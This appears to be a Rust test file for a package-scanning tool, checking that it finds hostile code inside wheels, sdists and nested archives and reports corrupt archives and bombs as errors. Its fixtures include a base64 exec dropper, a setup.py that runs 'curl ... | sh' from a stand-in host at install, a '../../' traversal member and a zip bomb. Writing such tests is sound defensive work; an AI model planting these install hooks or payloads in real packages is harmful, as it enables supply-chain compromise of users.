@@ -1,0 +1,165 @@
+//! Archives are read in memory: members are reported as `ARCHIVE!/MEMBER`,
+//! nested archives chain, traversal paths are normalised, and a corrupt
+//! archive or a bomb is an error while everything else is still scanned.
+
+mod common;
+
+use common::scan_json;
+use std::io::Write;
+
+const DROPPER: &str = "import base64\nexec(base64.b64decode('cHJpbnQoJ2hpJyk='))\n";
+
+fn zip_of(members: &[(&str, &[u8])], method: zip::CompressionMethod) -> Vec<u8> {
+    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let opts = zip::write::SimpleFileOptions::default().compression_method(method);
+    for (name, data) in members {
+        w.start_file(*name, opts).unwrap();
+        w.write_all(data).unwrap();
+    }
+    w.finish().unwrap().into_inner()
+}
+
+fn tar_gz_of(members: &[(&str, &[u8])]) -> Vec<u8> {
+    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    let mut t = tar::Builder::new(gz);
+    for (name, data) in members {
+        let mut h = tar::Header::new_gnu();
+        h.set_size(data.len() as u64);
+        h.set_mode(0o644);
+        h.set_entry_type(tar::EntryType::Regular);
+        // set_path refuses "..": write the raw name as an attacker would
+        let raw = name.as_bytes();
+        h.as_old_mut().name[..raw.len()].copy_from_slice(raw);
+        h.set_cksum();
+        t.append(&h, *data).unwrap();
+    }
+    t.into_inner().unwrap().finish().unwrap()
+}
+
+fn paths(r: &serde_json::Value) -> Vec<String> {
+    r["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| {
+            format!(
+                "{} {} {}",
+                f["path"].as_str().unwrap(),
+                f["rule"].as_str().unwrap(),
+                f["line"]
+            )
+        })
+        .collect()
+}
+
+#[test]
+fn a_wheel_member_is_reported_inside_the_archive() {
+    let dir = tempfile::tempdir().unwrap();
+    let whl = zip_of(
+        &[
+            ("evil/__init__.py", DROPPER.as_bytes()),
+            ("evil-1.0.dist-info/METADATA", b"Name: evil\nVersion: 1.0\n"),
+        ],
+        zip::CompressionMethod::Deflated,
+    );
+    std::fs::write(dir.path().join("evil-1.0-py3-none-any.whl"), whl).unwrap();
+    let (code, r) = scan_json(&[dir.path().to_str().unwrap()]);
+    assert_eq!(code, 1);
+    let p = paths(&r);
+    assert!(
+        p.iter()
+            .any(|x| x.ends_with("evil-1.0-py3-none-any.whl!/evil/__init__.py HS101 2")),
+        "{p:?}"
+    );
+}
+
+#[test]
+fn an_sdist_setup_py_runs_at_install_and_traversal_is_normalised() {
+    let dir = tempfile::tempdir().unwrap();
+    let setup = b"from setuptools import setup\nimport os\nos.system('curl -s http://x.invalid/a | sh')\nsetup(name='x')\n";
+    let sdist = tar_gz_of(&[
+        ("x-1.0/setup.py", setup),
+        ("../../escape.py", DROPPER.as_bytes()),
+    ]);
+    // pip's HTTP cache keeps bodies without an extension: found by magic bytes
+    std::fs::write(dir.path().join("4f1c2e9a"), sdist).unwrap();
+    let (_, r) = scan_json(&[dir.path().to_str().unwrap()]);
+    let findings = r["findings"].as_array().unwrap();
+    let setup_hit = findings
+        .iter()
+        .find(|f| {
+            f["path"]
+                .as_str()
+                .unwrap()
+                .ends_with("4f1c2e9a!/x-1.0/setup.py")
+        })
+        .unwrap_or_else(|| panic!("{:?}", paths(&r)));
+    assert_eq!(setup_hit["context"], "install");
+    assert!(
+        findings
+            .iter()
+            .any(|f| f["path"].as_str().unwrap().ends_with("4f1c2e9a!/escape.py")),
+        "{:?}",
+        paths(&r)
+    );
+}
+
+#[test]
+fn nested_archives_chain_their_paths() {
+    let dir = tempfile::tempdir().unwrap();
+    let inner = zip_of(
+        &[("pkg/mod.py", DROPPER.as_bytes())],
+        zip::CompressionMethod::Stored,
+    );
+    let outer = zip_of(
+        &[("wheels/pkg-1.0-py3-none-any.whl", &inner)],
+        zip::CompressionMethod::Stored,
+    );
+    std::fs::write(dir.path().join("bundle.zip"), outer).unwrap();
+    let (_, r) = scan_json(&[dir.path().to_str().unwrap()]);
+    assert!(
+        paths(&r)
+            .iter()
+            .any(|p| p.contains("bundle.zip!/wheels/pkg-1.0-py3-none-any.whl!/pkg/mod.py HS101")),
+        "{:?}",
+        paths(&r)
+    );
+}
+
+#[test]
+fn a_corrupt_archive_and_a_bomb_are_errors_and_the_rest_is_scanned() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut broken = zip_of(
+        &[("a.py", DROPPER.as_bytes())],
+        zip::CompressionMethod::Stored,
+    );
+    broken.truncate(broken.len() / 2);
+    std::fs::write(dir.path().join("broken.whl"), broken).unwrap();
+    // 300 MB of zeros compresses ~1000:1
+    let zeros = vec![0u8; 300 << 20];
+    let bomb = zip_of(&[("zeros.bin", &zeros)], zip::CompressionMethod::Deflated);
+    std::fs::write(dir.path().join("bomb.zip"), bomb).unwrap();
+    std::fs::write(dir.path().join("x.py"), DROPPER).unwrap();
+    let (code, r) = scan_json(&[dir.path().to_str().unwrap()]);
+    assert_eq!(code, 1, "the dropper beside them is still found");
+    let errors: Vec<String> = r["errors"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| {
+            format!(
+                "{} {}",
+                e["path"].as_str().unwrap(),
+                e["message"].as_str().unwrap()
+            )
+        })
+        .collect();
+    assert!(
+        errors
+            .iter()
+            .any(|e| e.contains("broken.whl") && e.contains("corrupt")),
+        "{errors:?}"
+    );
+    assert!(errors.iter().any(|e| e.contains("bomb.zip")), "{errors:?}");
+    assert!(paths(&r).iter().any(|p| p.ends_with("x.py HS101 2")));
+}
